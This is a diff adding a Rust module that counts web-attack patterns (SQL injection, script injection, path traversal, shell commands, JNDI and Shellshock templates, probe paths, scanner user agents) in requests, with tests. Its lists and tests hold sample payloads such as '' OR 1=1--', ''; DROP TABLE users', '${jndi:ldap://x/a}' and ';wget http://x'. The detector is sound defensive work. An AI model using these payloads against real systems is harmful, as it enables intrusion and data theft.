@@ -1,0 +1,303 @@
+//! What attacks look like in a path, a query, a header or a JSON text. A hit refuses nothing: it is counted. So rules are
+//! narrow rather than complete, for people are called O'Brien and ask to select a model.
+
+use percent_encoding::percent_decode_str;
+
+macro_rules! patterns {
+    ($($variant:ident = $name:literal $doc:literal;)*) => {
+        /// What an attack looks like.
+        #[derive(Clone, Copy, Debug, PartialEq, Eq)]
+        pub enum AttackPattern { $(#[doc = $doc] $variant,)* }
+
+        impl AttackPattern {
+            /// Its name in metrics and events.
+            pub const fn name(self) -> &'static str {
+                match self { $(Self::$variant => $name,)* }
+            }
+        }
+    };
+}
+
+patterns! {
+    Sql = "sql" "A text that would end a literal in SQL and go on.";
+    Script = "script" "Markup that would run a script.";
+    Traversal = "traversal" "A way out of a folder.";
+    Shell = "shell" "A command of a shell.";
+    Template = "template" "An expression that templates or loggers evaluate.";
+    Probe = "probe" "A path of programs that are not here.";
+    Scanner = "scanner" "A client that says it is a scanner.";
+    Nul = "nul" "The character U+0000.";
+}
+
+/// Longest text that is looked at, in bytes; of longer ones the beginning.
+const MOST_BYTES: usize = 4_096;
+/// How often a target is decoded: encoding twice is a way around filters.
+const MOST_DECODINGS: usize = 2;
+
+/// Where paths of other programs begin.
+const PROBES: [&str; 14] = [
+    "/.env",
+    "/.git",
+    "/.aws",
+    "/.ssh",
+    "/wp-",
+    "/wordpress",
+    "/xmlrpc.php",
+    "/phpmyadmin",
+    "/pma",
+    "/cgi-bin/",
+    "/vendor/phpunit",
+    "/actuator",
+    "/server-status",
+    "/boaform",
+];
+/// What they end in.
+const PROBE_ENDS: [&str; 5] = [".php", ".asp", ".aspx", ".jsp", ".cgi"];
+/// Names that scanners give themselves.
+const SCANNERS: [&str; 14] = [
+    "sqlmap",
+    "nikto",
+    "acunetix",
+    "nessus",
+    "nuclei",
+    "masscan",
+    "zgrab",
+    "dirbuster",
+    "gobuster",
+    "wpscan",
+    "wfuzz",
+    "feroxbuster",
+    "nmap scripting engine",
+    "havij",
+];
+const SCRIPTS: [&str; 6] =
+    ["<script", "<iframe", "<svg/onload", "<svg onload", "<img src=x onerror", "javascript:alert"];
+const TEMPLATES: [&str; 3] = ["${jndi:", "${${", "() { :;"];
+const SHELLS: [&str; 9] = [
+    "/etc/passwd",
+    "/etc/shadow",
+    ";wget ",
+    "; wget ",
+    "|wget ",
+    ";curl ",
+    "$(curl ",
+    "$(wget ",
+    "cmd.exe /c",
+];
+
+/// What the path and the query of a request look like.
+pub fn in_target(path: &str, query: &str) -> Option<AttackPattern> {
+    let is_ours = ["/api/v1/", "/v2/", "/health"].iter().any(|root| path.starts_with(root));
+    let is_plain =
+        |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/_-=&:".contains(&byte));
+    // Nearly every request ends here: nothing in it could be part of a rule.
+    if is_ours && is_plain(path) && is_plain(query) {
+        return None;
+    }
+    let path = decoded(path);
+    let probe = if is_ours { None } else { in_path(&path) };
+    probe.or_else(|| in_decoded(&path)).or_else(|| in_decoded(&decoded(query)))
+}
+
+fn in_path(path: &str) -> Option<AttackPattern> {
+    let is_probe = PROBES.iter().any(|probe| path.starts_with(probe))
+        || PROBE_ENDS.iter().any(|end| path.ends_with(end));
+    is_probe.then_some(AttackPattern::Probe)
+}
+
+/// What a header looks like.
+pub fn in_header(name: &str, value: &str) -> Option<AttackPattern> {
+    let suspicious = |byte: u8| matches!(byte, b'<' | b'$' | b'\'' | b'{' | b'\\') || byte == 0;
+    let is_agent = name == "user-agent";
+    if !is_agent && !value.bytes().any(suspicious) {
+        return None;
+    }
+    let value = beginning(value).to_ascii_lowercase();
+    if is_agent && SCANNERS.iter().any(|scanner| value.contains(scanner)) {
+        return Some(AttackPattern::Scanner);
+    }
+    in_decoded(&value)
+}
+
+/// What a text that somebody wrote looks like, such as a member of a JSON body.
+pub fn in_text(text: &str) -> Option<AttackPattern> {
+    let suspicious = |byte: u8| matches!(byte, b'<' | b'$' | b'\'' | b'"' | b'.' | b';' | b'|') || byte == 0;
+    if !text.bytes().take(MOST_BYTES).any(suspicious) {
+        return None;
+    }
+    in_decoded(&beginning(text).to_ascii_lowercase())
+}
+
+/// What a decoded text in lower case looks like.
+fn in_decoded(text: &str) -> Option<AttackPattern> {
+    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
+    if text.contains('\0') {
+        Some(AttackPattern::Nul)
+    } else if has(&["../../", "..\\..\\", "/../", "\\..\\"]) || text.starts_with("../") {
+        Some(AttackPattern::Traversal)
+    } else if has(&SCRIPTS) {
+        Some(AttackPattern::Script)
+    } else if has(&TEMPLATES) {
+        Some(AttackPattern::Template)
+    } else if has(&SHELLS) {
+        Some(AttackPattern::Shell)
+    } else if is_sql(text) {
+        Some(AttackPattern::Sql)
+    } else {
+        None
+    }
+}
+
+/// Whether a quote ends a literal and SQL goes on. SQL that nobody quoted is a text about SQL.
+fn is_sql(text: &str) -> bool {
+    let mut rest = text;
+    while let Some(at) = rest.find(['\'', '"']) {
+        rest = &rest[at + 1..];
+        let after = rest.trim_start_matches([' ', '+', ')', '\t', '\n']);
+        let goes_on = |word: &str| after.strip_prefix(word).map(str::trim_start);
+        let compares = ["or ", "and ", "or+", "and+", "|| ", "&& "]
+            .iter()
+            .filter_map(|word| goes_on(word))
+            .any(is_comparison);
+        let ends =
+            [";drop ", "; drop ", ";delete ", "; delete ", ";insert ", "; insert ", ";update ", "; update "]
+                .iter()
+                .any(|word| after.starts_with(word));
+        let unites = goes_on("union").is_some_and(|behind| {
+            let behind = behind.trim_start_matches(['+', ' ']);
+            behind.strip_prefix("all").unwrap_or(behind).trim_start_matches(['+', ' ']).starts_with("select")
+        });
+        let comments = matches!(after.trim_end(), "--" | "#" | "/*");
+        if compares || ends || unites || comments {
+            return true;
+        }
+    }
+    false
+}
+
+/// `1=1`, `'a'='a`, `sleep(5)`.
+fn is_comparison(text: &str) -> bool {
+    if text.starts_with("sleep(") || text.starts_with("pg_sleep(") || text.starts_with("benchmark(") {
+        return true;
+    }
+    let Some((left, right)) = text.split_once('=') else { return false };
+    let term = |text: &str| {
+        let text = text.trim_matches([' ', '+', '\'', '"', '(']);
+        text.len() <= 16 && text.bytes().all(|byte| byte.is_ascii_alphanumeric())
+    };
+    let (left, right) = (left.trim(), right.trim_start());
+    let first = right.split([' ', '+', '-', '#', ';', ')']).next().unwrap_or_default();
+    term(left)
+        && term(first)
+        && left.trim_matches(['\'', '"']).eq_ignore_ascii_case(first.trim_matches(['\'', '"']))
+}
+
+/// Undoes percent-encoding, in lower case.
+fn decoded(text: &str) -> String {
+    let mut text = beginning(text).to_owned();
+    for _ in 0..MOST_DECODINGS {
+        if !text.contains('%') {
+            break;
+        }
+        text = percent_decode_str(&text).decode_utf8_lossy().into_owned();
+    }
+    text.make_ascii_lowercase();
+    text
+}
+
+fn beginning(text: &str) -> &str {
+    &text[..text.floor_char_boundary(MOST_BYTES)]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::AttackPattern::{Nul, Probe, Scanner, Script, Shell, Sql, Template, Traversal};
+    use super::*;
+
+    #[test]
+    fn attacks_are_known_however_they_are_encoded() {
+        for (path, query, expected) in [
+            ("/wp-login.php", "", Probe),
+            ("/.env", "", Probe),
+            ("/.git/config", "", Probe),
+            ("/phpmyadmin/index.php", "", Probe),
+            ("/api/v1/models/..%2f..%2fetc%2fpasswd", "", Traversal),
+            ("/api/v1/models/%252e%252e%252f%252e%252e%252f", "", Traversal),
+            ("/api/v1/models", "limit=' OR 1=1--", Sql),
+            ("/api/v1/models", "q=%27%20or%20%27a%27=%27a", Sql),
+            ("/api/v1/models", "q=%27+UNION+ALL+SELECT+NULL", Sql),
+            ("/api/v1/models", "q='; DROP TABLE users", Sql),
+            ("/api/v1/models", "q=\" or sleep(5)", Sql),
+            ("/api/v1/models", "q=%3Cscript%3Ealert(1)%3C/script%3E", Script),
+            ("/api/v1/models", "q=${jndi:ldap://x/a}", Template),
+            ("/api/v1/models", "q=;wget http://x", Shell),
+            ("/api/v1/models/a%00b", "", Nul),
+        ] {
+            assert_eq!(in_target(path, query), Some(expected), "{path}?{query}");
+        }
+        assert_eq!(in_header("user-agent", "sqlmap/1.7 (https://sqlmap.org)"), Some(Scanner));
+        assert_eq!(in_header("referer", "${jndi:ldap://x/a}"), Some(Template));
+        assert_eq!(in_text("x'; DELETE FROM accounts; --"), Some(Sql));
+        assert_eq!(in_text("<SCRIPT>alert(1)</SCRIPT>"), Some(Script));
+    }
+
+    #[test]
+    fn honest_texts_are_let_be() {
+        for text in [
+            "O'Brien",
+            "Conan O'Brien or somebody else",
+            "select a model",
+            "Select * from the menu, please",
+            "the union select committee",
+            "rock 'n' roll and blues",
+            "it's 5 o'clock; drop me a line",
+            "\"yes\" or \"no\"",
+            "a <b and c> d",
+            "cost: $5.00",
+            "www.example.com",
+            "She said 'hello' and left=early",
+            "1 < 2 && 3 > 2",
+            "x = 'a' or y = 'b'",
+            "…",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "C:\\models\\digits",
+            "see ../README.md",
+            "price='10' and tax='2'",
+            "--",
+            "drop table is an SQL statement",
+        ] {
+            assert_eq!(in_text(text), None, "{text:?}");
+        }
+        for (path, query) in [
+            ("/api/v1/models/digits/predict", "top_k=3"),
+            ("/v2/models/digits/versions/1/infer", ""),
+            ("/docs/", ""),
+            ("/api/v1/models/php-classifier", ""),
+            ("/api/v1/admin/users", "search=O%27Brien"),
+            ("/api/v1/admin/users", "search=ada%40example.com"),
+            ("/health/ready", ""),
+            ("/.well-known/security.txt", ""),
+            ("/api/v1/models/a.b-c_1", "version=1.0"),
+            ("/", ""),
+            ("/openapi.json", ""),
+            ("/metrics", ""),
+        ] {
+            assert_eq!(in_target(path, query), None, "{path}?{query}");
+        }
+        for agent in
+            ["curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "python-requests/2.31"]
+        {
+            assert_eq!(in_header("user-agent", agent), None, "{agent}");
+        }
+        assert_eq!(in_header("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"), None);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn base64_is_no_attack_and_nothing_panics(bytes: Vec<u8>, text: String) {
+            let encoded = data_encoding::BASE64.encode(&bytes);
+            proptest::prop_assert_eq!(in_text(&encoded), None);
+            let _ = (in_text(&text), in_target(&text, &text), in_header("user-agent", &text));
+        }
+    }
+}
